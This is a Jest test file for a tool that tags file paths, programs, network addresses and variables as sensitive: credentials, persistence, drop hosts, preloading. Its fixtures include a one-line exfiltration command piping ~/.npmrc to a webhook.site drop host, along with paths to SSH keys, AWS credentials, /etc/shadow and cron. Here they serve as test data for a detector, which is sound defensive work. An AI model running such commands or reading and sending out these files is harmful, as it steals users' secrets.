/** What is sensitive has its name, and what only looks like it has none. */
import { expect, test } from '@jest/globals'
import { loadMaps } from '../../src/capabilities/builtin-maps.js'
import type { Capability } from '../../src/capabilities/capability.js'
import type { Resource } from '../../src/capabilities/findings.js'
import { MapError, readMapFile } from '../../src/capabilities/map-file.js'
import { Tagger } from '../../src/capabilities/tags.js'

const tagger = new Tagger(loadMaps().tags)
const tags = (kind: Resource['kind'], value: string, capability: Capability, args?: readonly string[]): string =>
  tagger.tagsOf({ kind, value, known: 'written', ...(args && { arguments: args }) }, capability).join(' ')

test.each<[string, Capability, string]>([
  ['$HOME/.ssh/id_ed25519', 'fs/read', 'credentials'],
  ['~/.aws/credentials', 'fs/read', 'credentials'],
  ['.env', 'fs/read', 'credentials'],
  ['*/.env.production', 'fs/read', 'credentials'],
  ['C:\\Users\\me\\AppData\\Local\\Google\\Chrome\\User Data\\Default', 'fs/read', 'credentials'],
  ['/home/*/.bashrc', 'fs/write', 'persistence'],
  ['$HOME/.ssh/authorized_keys', 'fs/write', 'credentials persistence'],
  ['/home/*/.bashrc', 'fs/read', ''],
  ['/etc/cron.d/x', 'fs/write', 'persistence'],
  ['/proc/self/mem', 'fs/write', 'other-processes'],
  ['/var/run/docker.sock', 'network/connect', 'other-processes'],
  ['/etc/ld.so.preload', 'fs/write', 'preload'],
  ['/etc/./shadow', 'fs/read', 'credentials'],
  ['/etc/x/../shadow', 'fs/read', 'credentials'],
  ['C:\\x\\..\\.aws\\.\\credentials', 'fs/read', 'credentials'],
  ['src/environment.rs', 'fs/read', ''],
  ['target/.envrc', 'fs/read', ''],
  ['/proc/meminfo', 'fs/read', ''],
  ['data/etc/shadow', 'fs/read', ''],
])('the path %s, %s: %s', (path, capability, expected) => {
  expect(tags('path', path, capability)).toBe(expected)
})

test.each<[string, readonly string[], string]>([
  ['/bin/sh', ['-c', 'true'], 'interpreter'],
  ['PowerShell.exe', [], 'interpreter'],
  ['curl', ['https://example.com'], 'downloader'],
  ['sh', ['-c', 'cat ~/.npmrc | curl -d @- https://webhook.site/x'], 'credentials drop-host interpreter'],
  ['curl', ['http://10.1.2.3/x'], 'downloader literal-address'],
  ['crontab', ['-'], 'persistence'],
  ['git', ['log'], ''],
  ['shfmt', [], ''],
])('the program %s %j: %s', (program, args, expected) => {
  expect(tags('program', program, 'exec', args)).toBe(expected)
})

test.each<[string, string]>([
  ['45.9.148.1:443', 'literal-address'],
  ['[2001:db8::1]:80', 'literal-address'],
  ['127.0.0.1:80', ''],
  ['0.0.0.0:80', ''],
  ['[::1]:80', ''],
  ['x.webhook.site:443', 'drop-host'],
  ['x.webhook.site.:443', 'drop-host'],
  ['notwebhook.site:443', ''],
  ['api.example:443', ''],
])('the address %s: %s', (address, expected) => {
  expect(tags('address', address, 'network/connect')).toBe(expected)
})

test('variables, by name; preloading only where it is set; of what is not known nothing is said', () => {
  expect(tags('variable', 'AWS_SECRET_ACCESS_KEY', 'env/read')).toBe('credentials')
  expect(tags('variable', 'TOKENIZERS_PATH', 'env/read')).toBe('')
  expect(tags('variable', 'LD_PRELOAD', 'env/write')).toBe('preload')
  expect(tags('variable', 'LD_PRELOAD', 'env/read')).toBe('')
  expect(tagger.tagsOf({ kind: 'path', value: '*', known: 'unknown' }, 'fs/read')).toEqual([])
})

test('a row is told with its line when it says nothing, or no tag', () => {
  const read = (text: string) => readMapFile({ name: 'mine.toml', text: `version = 1\n[[tags]]\n${text}` })
  expect(() => read('tag = "x"\nwhy = "y"')).toThrow(MapError)
  expect(() => read('tag = "X y"\nwhy = "y"\npaths = ["a"]')).toThrow('is no tag')
  expect(read('tag = "x"\nwhy = "y"\npaths = ["a"]').content.tags).toHaveLength(1)
})
